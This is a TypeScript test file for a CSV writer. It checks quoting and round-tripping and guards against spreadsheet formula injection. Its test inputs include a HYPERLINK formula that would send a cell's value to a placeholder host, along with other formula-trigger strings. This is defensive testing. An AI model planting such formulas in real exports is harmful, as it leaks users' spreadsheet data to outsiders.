import { describe, expect, test } from "vitest";
import { array, assert, constantFrom, oneof, property, string } from "fast-check";
import { csvCell, csvLine } from "./csv";

/** Reads CSV as RFC 4180 says, without looking at how ours is written. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell, quoted, at]: [string[], string, boolean, number] = [[], "", false, 0];
  for (; at < text.length; at += 1) {
    const letter = text[at] ?? "";
    if (quoted) {
      if (letter !== '"') cell += letter;
      else if (text[at + 1] === '"') [cell, at] = [`${cell}"`, at + 1];
      else quoted = false;
    } else if (letter === '"') quoted = true;
    else if (letter === ",") [row, cell] = [[...row, cell], ""];
    else if (letter === "\r" && text[at + 1] === "\n") {
      rows.push([...row, cell]);
      [row, cell, at] = [[], "", at + 1];
    } else cell += letter;
  }
  expect([row, cell, quoted]).toEqual([[], "", false]);
  return rows;
}

describe("a cell", () => {
  test.each([
    ["plain", "plain"], ["", ""], [null, ""], [12, "12"], [-3.5, "-3.5"], [true, "true"], [false, "false"],
    ["a,b", '"a,b"'], ['say "so"', '"say ""so"""'], ["two\nlines", '"two\nlines"'], [" blank", '" blank"'], ["naïve 新聞 👩‍🚀", "naïve 新聞 👩‍🚀"],
    ["2026-11-22T10:00:00.000Z", "2026-11-22T10:00:00.000Z"],
  ] as const)("%j is written %s", (value, cell) => expect(csvCell(value)).toBe(cell));

  test.each(["=1+1", "+49 30", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://x.test?"&A1,"y")'])("%j is not computed by a spreadsheet", (text) => {
    expect(parse(csvLine([text]))).toEqual([[`'${text}`]]);
  });
});

test("whatever stands in the cells comes out again, but for the apostrophe", () => {
  const cell = oneof(string({ unit: "binary", maxLength: 6 }), string({ unit: constantFrom(",", '"', "\r", "\n", "=", "a", " ", "'"), maxLength: 8 }));
  const COMPUTED = /^[=+\-@\t\r\n]/;
  assert(property(array(array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
    expect(parse(rows.map(csvLine).join(""))).toEqual(rows.map((row) => row.map((text) => (COMPUTED.test(text) ? `'${text}` : text))));
  }), { numRuns: 60 });
});
